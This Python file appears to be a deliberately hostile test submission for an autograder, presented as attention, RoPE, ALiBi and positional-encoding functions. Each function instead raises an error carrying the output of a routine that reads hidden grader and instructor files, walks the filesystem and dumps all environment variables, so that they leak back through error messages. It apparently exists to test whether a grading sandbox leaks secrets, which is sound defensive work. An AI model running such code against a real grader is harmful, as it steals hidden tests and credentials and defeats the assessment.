"""Hostile: looks for the hidden suite and instructor files wherever they might be, and sends what
it finds back in its error messages (which the student sees)."""

import os
import time

LIKELY = (
    "/work/main/grader/suite/__init__.py",
    "/work/main/grader/suite/test_rope.py",
    "/work/main/grader/mutants/__init__.py",
    "/work/main/app_pages/instructor.py",
    "../secret_instructor.txt",
    "../../secret_instructor.txt",
    "/proc/1/root/work/main/grader/suite/__init__.py",
)
SKIP = ("/usr", "/proc", "/sys", "/dev", "/root/.pyenv")
# Installed packages are public and many (reading them all took past a call's share of the time limit on
# a loaded machine, and a call that ran out the clock sent no message back): left out, and the walk stops
# after WALK_SECONDS in any case.
PUBLIC_FOLDERS = ("site-packages", "dist-packages", "__pycache__")
WALK_SECONDS = 1.0


def _loot() -> str:
    found = []
    for path in LIKELY:
        try:
            with open(path, errors="replace") as handle:
                found.append(f"{path}: {handle.read(300)}")
        except OSError:
            pass
    deadline = time.monotonic() + WALK_SECONDS
    for start in ("/", "..", "../.."):
        for folder, subfolders, files in os.walk(start):
            if os.path.abspath(folder).startswith(SKIP) or folder.count(os.sep) > 10 or time.monotonic() > deadline:
                subfolders[:] = []
                continue
            subfolders[:] = [name for name in subfolders if name not in PUBLIC_FOLDERS]
            for name in files:
                if name.endswith((".py", ".txt", ".csv", ".toml")):
                    try:
                        with open(os.path.join(folder, name), errors="replace") as handle:
                            found.append(f"{folder}/{name}: {handle.read(300)}")
                    except OSError:
                        pass
    # The marker first: the judge clips long messages, and the test looks for it.
    return "LOOT: environment: " + str(dict(os.environ)) + " | " + " | ".join(found)


def attention(q, k, v, bias=None):
    raise RuntimeError(_loot())


def sinusoidal_encoding(seq_len, d_model, base=10000.0):
    raise RuntimeError(_loot())


def LearnedPositionalEmbedding(max_len, d_model):
    raise RuntimeError(_loot())


def apply_rope(x, positions=None, base=10000.0):
    raise RuntimeError(_loot())


def alibi_slopes(n_heads):
    raise RuntimeError(_loot())


def alibi_bias(n_heads, seq_len):
    raise RuntimeError(_loot())
